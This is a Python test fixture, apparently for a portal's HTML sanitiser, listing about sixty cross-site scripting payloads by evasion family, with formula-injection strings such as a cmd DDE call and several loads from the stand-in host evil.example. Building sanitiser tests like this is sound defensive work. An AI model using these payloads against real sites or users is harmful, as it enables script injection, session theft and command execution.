"""Texts that attack a page, about sixty, by the family they belong to.

The families are those of two published lists, OWASP's "XSS Filter Evasion Cheat Sheet" and
PortSwigger's "Cross-site scripting (XSS) cheat sheet"; the texts are written for this portal.
Wherever one came to life it would show a dialog, load from ``evil.example``, or leave an element
of its kind or an attribute called ``evil`` in the page.
"""

FAMILIES: dict[str, list[str]] = {
    "script element": [
        "<script evil>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script/evil/src=data:,alert(1)></script>",
        "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
    ],
    "event handler": [
        "<img src=x onerror=alert(1) evil>",
        "<svg onload=alert(1) evil>",
        "<body onload=alert(1) evil>",
        "<input autofocus onfocus=alert(1) evil>",
        "<details open ontoggle=alert(1) evil>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1) evil>",
        "<style>@keyframes x{}</style><b style='animation:x' onanimationend=alert(1)>x</b>",
        "<p onpointerenter=alert(1) evil>touch me</p>",
    ],
    "malformed tag": [
        '<img """><script>alert(1)</script>">',
        "<img/src=x/onerror=alert(1)/evil>",
        "<svg\x0aonload=alert(1)\x0aevil>",
        "<img src=x onerror=alert(1) evil//",
        "<iframe src=javascript:alert(1) evil <",
        "<IMG SRC=`x` OnErRoR=alert(1) EVIL>",
    ],
    "way out of an attribute": [
        '" onmouseover="alert(1)" evil="',
        "' onfocus='alert(1)' autofocus evil='",
        '"><svg onload=alert(1) evil>',
        "x autofocus onfocus=alert(1) evil",
        "`><img src=x onerror=alert(1) evil>",
        "&quot; onload=&quot;alert(1)",
        '\\" onerror=\\"alert(1)',
    ],
    "way out of an element": [
        "</title><script>alert(1)</script>",
        "</textarea><img src=x onerror=alert(1) evil>",
        "</style><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "--><img src=x onerror=alert(1) evil>",
        "]]><script>alert(1)</script>",
        "</option></select><img src=x onerror=alert(1) evil>",
        "<!--<img src='--><img src=x onerror=alert(1) evil>",
    ],
    "address": [
        "<a href=javascript:alert(1) evil>x</a>",
        "<a href='jav&#x09;ascript:alert(1)' evil>x</a>",
        "<a href='&#106;avascript:alert(1)' evil>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>' evil>x</a>",
        "<form action=javascript:alert(1) evil><button>x</button></form>",
        "<button formaction=javascript:alert(1) evil>x</button>",
        "<object data=https://evil.example/ evil></object>",
        "<embed src=https://evil.example/ evil>",
        "<base href=https://evil.example/ evil>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/' evil>",
        "javascript:alert(1)",
    ],
    "style": [
        "<style>@import 'https://evil.example/x.css'</style>",
        "<p style='background:url(https://evil.example/x)' evil>x</p>",
        "<link rel=stylesheet href=https://evil.example/x.css evil>",
    ],
    "encoding": [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1) evil&#62;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "＜script＞alert(1)＜/script＞",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<\u017fcript>alert(1)</\u017fcript>",
    ],
    "other name space": [
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s evil></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1) evil>",
        "<svg><a xlink:href=javascript:alert(1)><text y=9 evil>x</text></a></svg>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1) evil>'>",
        "<template><img src=x onerror=alert(1) evil></template>",
    ],
    "name taken from the page": [
        "<form id=evil name=location><input name=href></form>",
        "<img name=cookie evil><a id=htmx href=https://evil.example/ evil>x</a>",
    ],
    "template": [
        "{{ 7|add:7 }}{% now 'Y' %}",
        "${alert(1)}<%= alert(1) %>#{alert(1)}",
        "<div hx-get=https://evil.example/ hx-trigger=load evil>x</div>",
        "<div hx-on:click=alert(1) data-hx-vals='js:{a:alert(1)}' evil>x</div>",
    ],
    "formula": [
        "=cmd|'/c calc'!A1",
        "+1+alert(1)",
        "-2+alert(1)",
        "@SUM(1;alert(1))",
        "＝cmd|alert(1)",
    ],
    "several at once": [
        "javascript:/*'/*\"/*--></title></textarea></style></script><svg onload=alert(1) evil>",
    ],
}
ALL = [text for family in FAMILIES.values() for text in family]
